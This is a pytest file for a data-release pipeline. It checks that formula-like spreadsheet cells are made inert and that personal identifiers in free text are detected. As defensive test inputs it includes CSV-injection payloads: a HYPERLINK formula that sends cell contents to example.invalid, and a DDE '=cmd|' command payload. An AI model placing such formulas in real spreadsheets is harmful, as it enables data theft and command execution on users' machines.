"""Text safety: spreadsheet formulas made inert, identifiers found in free text."""

import csv as csv_module

import numpy as np
import openpyxl
import pandas as pd
import pytest

from child_mdh.release.sdc import Manifest, audit_release, merge_manifests, write_release_table
from child_mdh.release.sdc.text_safety import (
    IdentifierError,
    IdentifierFinding,
    check_free_text,
    find_identifiers,
    is_formula,
    neutralise_formulas,
)
from child_mdh.release.workbook import TABLE_HEADER_ROW, TABLE_SHEET, column_label

from sdc_tables import LA_SPEC, la_table

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click for details")'


# --------------------------------------------------------------------------------------
# formulas
# --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        HYPERLINK,
        "  =1+1",
        " \n-2+3",
        "\t=1+1",
        "\tplain text after a tab",
        "\rtext after a return",
        "-inf",
        "- a dash",
        "+44 20 7946 0000",
    ],
)
def test_formula_cells_get_an_apostrophe(cell):
    assert is_formula(cell)
    out = neutralise_formulas(pd.DataFrame({"label": [cell]}))
    assert out["label"].iloc[0] == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "-0.5",
        "+3",
        " -2 ",
        "1e-3",
        "-.5",
        "12",
        "plain text",
        "a=b",
        "rate -1.2",
        "'=already inert",
        "",
        " ",
    ],
)
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert not is_formula(cell)
    assert neutralise_formulas(pd.DataFrame({"label": [cell]}))["label"].iloc[0] == cell


def test_only_text_cells_and_names_change_and_the_input_is_kept():
    df = pd.DataFrame(
        {
            "la_code": ["A", "B", "C"],
            "label": ["=cmd|' /C calc'!A0", None, "fine"],
            "change": [-1.5, 2.0, np.nan],
            "count_n": [-3, 10, 20],
            "mixed": pd.Series(["+1+1", 5, None], dtype=object),
            "category": pd.Categorical(["@x", "y", "@x"]),
            "=SUM(A1)": ["x", "y", "z"],
        }
    )
    out = neutralise_formulas(df)
    assert out["label"].tolist()[0] == "'=cmd|' /C calc'!A0"
    assert pd.isna(out["label"].iloc[1]) and out["label"].iloc[2] == "fine"
    assert out["mixed"].tolist() == ["'+1+1", 5, None]
    assert out["category"].tolist() == ["'@x", "y", "'@x"]
    # numeric columns untouched: a negative number stays a number
    assert out["change"].dtype == np.float64 and out["change"].iloc[0] == -1.5
    assert out["count_n"].tolist() == [-3, 10, 20]
    assert out["label"].dtype == df["label"].dtype
    assert list(out.columns)[-1] == "'=SUM(A1)"
    # the input is not changed
    assert df["label"].iloc[0].startswith("=") and "=SUM(A1)" in df.columns


def test_release_table_text_is_written_inert_in_csv_and_xlsx(tmp_path):
    release = tmp_path / "release"
    m = Manifest(release, step="profiles")
    df = la_table()
    df["note"] = [HYPERLINK, "  +1+1", "-0.5", "ordinary note", "England"]
    path = release / "profiles" / "cin.csv"
    write_release_table(df, path, LA_SPEC, m, xlsx=True)
    assert df["note"].iloc[0] == HYPERLINK  # the caller's table is not changed

    csv = pd.read_csv(path, dtype={"note": "str", "la_code": "str"})
    assert csv["note"].tolist()[:4] == ["'" + HYPERLINK, "'  +1+1", "-0.5", "ordinary note"]
    with path.open(newline="") as f:
        cells = [c for row in csv_module.reader(f) for c in row]
    assert [c for c in cells if is_formula(c)] == []

    book = openpyxl.load_workbook(path.with_suffix(".xlsx"))
    sheet = book[TABLE_SHEET]
    header = [column_label(c) for c in csv.columns]
    assert [c.value for c in sheet[TABLE_HEADER_ROW]] == header
    notes = [row[header.index("Note")] for row in sheet.iter_rows(min_row=TABLE_HEADER_ROW + 1)]
    assert notes[0].value == "'" + HYPERLINK and notes[0].data_type == "s"
    assert notes[1].value == "'  +1+1" and notes[1].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    # counts are still numbers, suppressed cells marked [c]
    cin = [row[1].value for row in sheet.iter_rows(min_row=TABLE_HEADER_ROW + 1)]
    assert cin[0] == 25 and cin[1] == "[c]"

    m.write_part(tmp_path / "part.json")
    merge_manifests([tmp_path / "part.json"], release / "outputs.json")
    assert audit_release(release) == []


# --------------------------------------------------------------------------------------
# identifiers
# --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text, kind, match",
    [
        ("The pupil number A123456789012.", "upn", "A123456789012"),
        ("temporary number B12345678901C", "upn", "B12345678901C"),
        ("pupil_id PMR0001234 left", "record_id", "pupil_id PMR0001234"),
        ("see person_id: P12", "record_id", "person_id: P12"),
        ("household id=4471", "record_id", "household id=4471"),
        ("UPN 77123", "record_id", "UPN 77123"),
        ("row H00001234 in the table", "record_id", "H00001234"),
        ("as P000001234 said", "record_id", "P000001234"),
        ("matching reference 123456789", "long_number", "123456789"),
        ("call 07700900123", "long_number", "07700900123"),
        ("born 12/03/2014", "date", "12/03/2014"),
        ("born 12-03-2014", "date", "12-03-2014"),
        ("born 12.03.2014", "date", "12.03.2014"),
        ("born 3/4/15", "date", "3/4/15"),
        ("born 2014-03-12", "date", "2014-03-12"),
        ("born on 12 March 2014 in", "date", "12 March 2014"),
        ("born on the 1st of Sept 2009", "date", "1st of Sept 2009"),
        ("born March 12, 2014", "date", "March 12, 2014"),
        ("moved to SW1A 1AA last", "postcode", "SW1A 1AA"),
        ("near M1 1AE", "postcode", "M1 1AE"),
        ("near B33 8TH", "postcode", "B33 8TH"),
        ("lives at 12 Acacia Avenue, Leeds", "address", "12 Acacia Avenue"),
        ("at 4a Mill Lane", "address", "4a Mill Lane"),
        ("from 10-12 Long Acre Close", "address", "10-12 Long Acre Close"),
        ("at 27 The Crescent", "address", "27 The Crescent"),
        ("at 3 Church St.", "address", "3 Church St"),
        ("AT 9 PARK ROAD", "address", "9 PARK ROAD"),
    ],
)
def test_each_kind_of_identifier_is_found(text, kind, match):
    found = find_identifiers(text)
    assert [(f.kind, f.match) for f in found] == [(kind, match)]
    assert text[found[0].position :].startswith(match)


@pytest.mark.parametrize(
    "text",
    [
        "In 2021, 45.2% of children lived in such households.",
        "The rate was 123.4 per 10,000 children (95% CI 110.2 to 137.9) in 2021/22.",
        "Figures for 2023-24 and 2019-20; 2019 to 2022; FY 2023/24.",
        "Hartlepool (E06000001) compared with England (E92000001) and E12000001.",
        "A population of 12,345,678; p = 0.0001; a share of 0.12345678.",
        "Published March 2024 (care leavers' survey, 2024-03).",
        "30 Family Court cases in 2021 Crown Court listings",
        "Pupils in Y6 2nd term, KS2 1st attempt; the SW1A district; M1 motorway.",
        '"I finally have a place that feels like mine." (care leaver, 19)',
        "Care leavers aged 19-21 in education, employment or training",
        "7 young people in St Helens; 3 people drive; 1 in 10 Way",
        "The pupil_id column is withheld; UPNs 2021/22 were matched.",
        "Section 3.1.12 gives a score of 7.9 out of 10; 10/10 would recommend.",
        "",
    ],
)
def test_ordinary_statistical_prose_is_not_flagged(text):
    assert find_identifiers(text) == []


def test_overlapping_findings_are_reported_once_in_order():
    found = find_identifiers("pupil_id 123456789 lives at M1 1AE since 01/02/2010")
    assert [f.kind for f in found] == ["record_id", "postcode", "date"]
    assert found[0] == IdentifierFinding("record_id", "pupil_id 123456789", 0)


def test_check_free_text_names_the_source_masks_the_match_and_gives_the_fix():
    check_free_text("Nothing here but 45% and 2021/22.", "notes.md")
    with pytest.raises(IdentifierError) as err:
        check_free_text(
            "Moved from 12 Acacia Avenue, SW1A 1AA on 12/03/2014.", "local.csv, line 3, statement"
        )
    message = str(err.value)
    assert isinstance(err.value, ValueError)
    assert message.count("local.csv, line 3, statement") == 3
    assert "street address '1***************'" in message
    assert "postcode 'S*******'" in message
    assert "date of birth) '1*********'" in message
    for secret in ("Acacia", "SW1A", "1AA", "03/2014"):
        assert secret not in message
    assert "remove the identifier from the statement and rerun" in message
    assert [f.kind for f in err.value.findings] == ["address", "postcode", "date"]
